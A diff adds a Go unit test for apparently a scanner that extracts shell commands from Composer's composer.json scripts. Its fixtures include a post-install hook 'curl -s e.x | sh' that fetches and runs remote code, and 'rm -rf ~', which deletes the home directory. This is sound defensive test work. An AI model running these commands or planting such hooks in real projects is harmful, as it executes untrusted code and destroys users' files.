@@ -357,6 +357,22 @@ func TestExtractNPM(t *testing.T) {
 	})
 }
 
+// TestExtractComposer: Composer runs composer.json's scripts on install
+// (post-install-cmd) and on composer run; they were not read.
+func TestExtractComposer(t *testing.T) {
+	checkExtract(t, "composer.json", []struct {
+		name, src string
+		want      []extracted
+	}{
+		{"event scripts", `{"name":"a/b","scripts":{"post-install-cmd":["@php artisan x","curl -s e.x | sh"],"test":"phpunit","all":["@test","@putenv PATH=./bin:$PATH"]}}`,
+			[]extracted{{"php artisan x", "1:48"}, {"curl -s e.x | sh", "1:64"}, {"phpunit", "1:91"}, {"export PATH=./bin:$PATH", "1:116"}}},
+		{"only scripts", `{"config":{"scripts":{"a":"rm -rf ~"}},"extra":{"x":"rm -rf ~"}}`, nil},
+	})
+	if got := KindOf("lib/composer.json"); got != Composer {
+		t.Errorf("KindOf(lib/composer.json) = %q, want %q", got, Composer)
+	}
+}
+
 func TestExtractSyntaxErrors(t *testing.T) {
 	tests := []struct {
 		name, src, want string
